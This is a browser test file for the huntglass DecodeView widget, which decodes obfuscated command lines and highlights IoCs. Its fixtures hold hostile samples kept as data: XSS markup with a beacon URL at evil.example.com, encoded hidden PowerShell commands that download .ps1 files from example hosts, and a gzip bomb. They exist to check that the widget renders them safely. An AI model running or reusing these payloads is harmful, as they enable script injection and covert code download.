// The DecodeView in Debian's chromium, mounted through mountStandalone with the real widget.js,
// browser wasm and engines' module (widgets/src/huntglass/static, built by scripts/build.sh), on
// the data set Python's hg.DecodeView sends: 10,000 records (a third with encoded payloads) plus
// hostile ones and a gzip bomb. Decoding runs in the page through runOp("decode.unpack"); the
// layer and IoC counts must equal the kernel-side hg.decode.unpack(..., iocs=True) on the same
// records; hostile decoded markup must stay text; the bomb's layer must name the limit that
// stopped it; expand/collapse, copy, paging and selection must work.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { ROOT, launchBrowser, requireFile, runPython, watchPage } from "./lib.mjs";

const STATIC = path.join(ROOT, "widgets/src/huntglass/static");
const RECORDS = 10_000;
const HOSTILE = "<img src=x onerror=alert(2)> <script>alert(1)</script> beacon http://evil.example.com/x";

function prepare(dir) {
  runPython(
    `
import base64, gzip, json, sys
import pandas as pd
import huntglass as hg
from huntglass._html import STATE_KEYS

out, n, hostile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
b64 = lambda b: base64.b64encode(b).decode()
texts = [
    "powershell -enc " + b64(hostile.encode("utf-16-le")),
    "cmd /c echo " + b64(gzip.compress(b"\\xff" * (4 << 20), mtime=0)),
]
for i in range(2, n):
    if i % 3 == 0:
        inner = f"iwr http://host{i % 97}.example.com/p{i}.ps1 -OutFile C:\\\\Temp\\\\p{i}.ps1"
        texts.append("powershell.exe -nop -w hidden -enc " + b64(inner.encode("utf-16-le")))
    else:
        texts.append(f"cmd.exe /c ping -n 1 10.0.{i % 256}.{i % 200} && echo done {i}")
df = pd.DataFrame({"CommandLine": texts})
widget = hg.DecodeView(df, column="CommandLine", max_expansion_ratio=20, height=500)
data = widget._hg_data["records"]
state = {key: getattr(widget, key) for key in STATE_KEYS}
layers, iocs = hg.decode.unpack(df, column="CommandLine", iocs=True, max_expansion_ratio=20)
with open(f"{out}/page.json", "w") as f:
    json.dump({
        "state": state,
        "data": base64.b64encode(b"".join(bytes(c) for c in data.chunks)).decode(),
        "layers": len(layers),
        "iocs": len(iocs),
        "decoded": int(layers["src_index"].nunique()),
        "bomb_limit": [s for s in layers[layers["src_index"] == 1]["stopped_by"].dropna()],
        "first_md5": layers.iloc[0]["md5"],
    }, f)
`,
    [dir, String(RECORDS), HOSTILE],
  );
  return JSON.parse(readFileSync(path.join(dir, "page.json"), "utf8"));
}

describe("DecodeView in chromium", { timeout: 600_000 }, () => {
  let browser;
  let context;
  let page;
  let seen;
  let expected;
  const dir = mkdtempSync(path.join(os.tmpdir(), "hg-decodeview-"));
  const root = '[data-hg-widget="decode_view"]';

  before(async () => {
    for (const file of ["widget.js", "hg_wasm_bg.wasm", "hg_kernel.wasm"]) requireFile(path.join(STATIC, file), `static/${file}`);
    expected = prepare(dir);
    browser = await launchBrowser();
    context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: "http://127.0.0.1" }).catch(() => {});
    page = await context.newPage();
    seen = watchPage(page);
    await page.setContent('<!doctype html><html><body><div id="host" style="width:1100px"></div></body></html>');
    const bundle = readFileSync(path.join(STATIC, "widget.js"), "utf8");
    const wasm = readFileSync(path.join(STATIC, "hg_wasm_bg.wasm")).toString("base64");
    const kernel = readFileSync(path.join(STATIC, "hg_kernel.wasm")).toString("base64");
    await page.evaluate(
      async ({ bundle, wasm, kernel, data, state }) => {
        window.__alerts = 0;
        window.alert = () => (window.__alerts += 1);
        window.__copied = [];
        // The page is about:blank (no secure context clipboard): record what would be copied.
        Object.defineProperty(navigator, "clipboard", { value: { writeText: async (t) => { window.__copied.push(t); } }, configurable: true });
        const url = URL.createObjectURL(new Blob([bundle], { type: "text/javascript" }));
        const module = await import(url);
        const { model, cleanup } = await module.mountStandalone(document.getElementById("host"), { state, wasm, kernel, datasets: { records: data } });
        window.__model = model;
        window.__cleanup = cleanup;
      },
      { bundle, wasm, kernel, data: expected.data, state: expected.state },
    );
    await page.waitForFunction(
      (sel) => {
        const r = document.querySelector(sel);
        const state = r?.getAttribute("data-hg-state");
        if (state === "error") throw new Error(r.querySelector('[data-hg-role="error"]')?.textContent ?? "error");
        return state === "ready";
      },
      root,
      { timeout: 300_000, polling: 200 },
    );
  });

  after(async () => {
    await browser?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test("layer and IoC counts equal the kernel-side hg.decode.unpack", async () => {
    const attr = (name) => page.getAttribute(root, name);
    assert.equal(await attr("data-hg-n-records"), String(RECORDS));
    assert.equal(await attr("data-hg-n-layers"), String(expected.layers));
    assert.equal(await attr("data-hg-n-iocs"), String(expected.iocs));
    assert.equal(await attr("data-hg-n-decoded"), String(expected.decoded));
    const pages = Number(await attr("data-hg-pages"));
    assert.equal(pages, Math.ceil(expected.decoded / 25));
    const records = await page.$$eval('[data-hg-role="record"]', (n) => n.length);
    assert.equal(records, 25, "one page of records in the DOM");
  });

  test("hostile decoded markup stays text; its IoCs are highlighted text nodes", async () => {
    const first = page.locator('[data-hg-role="record"][data-hg-row="0"]');
    const text = await first.locator('[data-hg-role="preview-text"]').first().textContent();
    assert.equal(text, HOSTILE);
    const made = await page.$$eval(`${root} script, ${root} img`, (n) => n.length);
    assert.equal(made, 0);
    const iocs = await first.locator('[data-hg-role="ioc"]').evaluateAll((s) => s.map((x) => [x.getAttribute("data-hg-ioc-type"), x.textContent]));
    assert.ok(iocs.some(([t, v]) => t === "url" && v === "http://evil.example.com/x"), JSON.stringify(iocs));
    assert.equal(await first.locator('[data-hg-role="chain"]').first().textContent(), "base64 > utf16le");
    assert.equal(await page.evaluate(() => window.__alerts), 0);
    assert.deepEqual(seen.dialogs, []);
    assert.deepEqual(seen.pageErrors, []);
  });

  test("the gzip bomb's layer names the limit that stopped it", async () => {
    assert.ok(expected.bomb_limit.includes("max_expansion_ratio"), JSON.stringify(expected.bomb_limit));
    const limits = await page.$$eval('[data-hg-role="record"][data-hg-row="1"] [data-hg-role="limit"]', (n) => n.map((x) => x.getAttribute("data-hg-limit")));
    assert.deepEqual(limits, expected.bomb_limit);
    const preview = await page.getAttribute('[data-hg-role="record"][data-hg-row="1"] [data-hg-role="preview"]', "data-hg-preview");
    assert.equal(preview, "hex", "binary content is shown as hex");
  });

  test("collapse and expand one layer and all", async () => {
    const layer = '[data-hg-role="record"][data-hg-row="0"] [data-hg-role="layer"]';
    await page.click(`${layer} [data-hg-role="toggle"]`);
    assert.equal(await page.getAttribute(layer, "data-hg-open"), "false");
    assert.equal(await page.$$eval(`${layer} [data-hg-role="preview"]`, (n) => n.length), 0);
    await page.click(`${layer} [data-hg-role="toggle"]`);
    assert.equal(await page.getAttribute(layer, "data-hg-open"), "true");
    await page.click('[data-hg-tool="collapse-all"]');
    assert.equal(await page.$$eval('[data-hg-role="preview"]', (n) => n.length), 0);
    await page.click('[data-hg-tool="expand-all"]');
    assert.ok((await page.$$eval('[data-hg-role="preview"]', (n) => n.length)) >= 25);
  });

  test("copy buttons copy the hash and the decoded text", async () => {
    await page.click('[data-hg-role="record"][data-hg-row="0"] [data-hg-role="copy"][data-hg-copy="md5"]');
    await page.click('[data-hg-role="record"][data-hg-row="0"] [data-hg-role="copy"][data-hg-copy="text"]');
    await page.waitForFunction(() => window.__copied.length === 2, null, { timeout: 10_000 });
    assert.deepEqual(await page.evaluate(() => window.__copied), [expected.first_md5, HOSTILE]);
  });

  test("paging reaches the last record; the selection goes back to Python", async () => {
    const pages = Number(await page.getAttribute(root, "data-hg-pages"));
    for (let i = 0; i < 3; i++) await page.click('[data-hg-tool="next"]');
    assert.equal(await page.getAttribute(root, "data-hg-page"), "3");
    await page.evaluate((p) => {
      // Jump to the end through the buttons' own handler path.
      const next = document.querySelector('[data-hg-tool="next"]');
      for (let i = 0; i < p; i++) next.click();
    }, pages);
    assert.equal(await page.getAttribute(root, "data-hg-page"), String(pages - 1));
    const rows = await page.$$eval('[data-hg-role="record"]', (n) => n.map((x) => Number(x.getAttribute("data-hg-row"))));
    assert.equal(Math.max(...rows), RECORDS - 1 - ((RECORDS - 1) % 3), "the last encoded record is on the last page");
    const header = `[data-hg-role="record-header"][data-hg-row="${rows[0]}"]`;
    await page.click(header);
    await page.waitForFunction(() => (window.__model.get("selection")?.records ?? []).length === 1, null, { timeout: 10_000 });
    assert.deepEqual(await page.evaluate(() => window.__model.get("selection")), { records: [rows[0]] });
    await page.click('[data-hg-tool="clear"]');
    await page.waitForFunction(() => (window.__model.get("selection")?.records ?? [1]).length === 0, null, { timeout: 10_000 });
  });

  test("theme follows the traitlet; cleanup removes the widget", async () => {
    await page.evaluate(() => window.__model.set("theme", "dark"));
    assert.equal(await page.getAttribute(root, "data-hg-theme"), "dark");
    await page.evaluate(() => window.__cleanup());
    assert.equal(await page.$$eval(root, (n) => n.length), 0);
  });
});
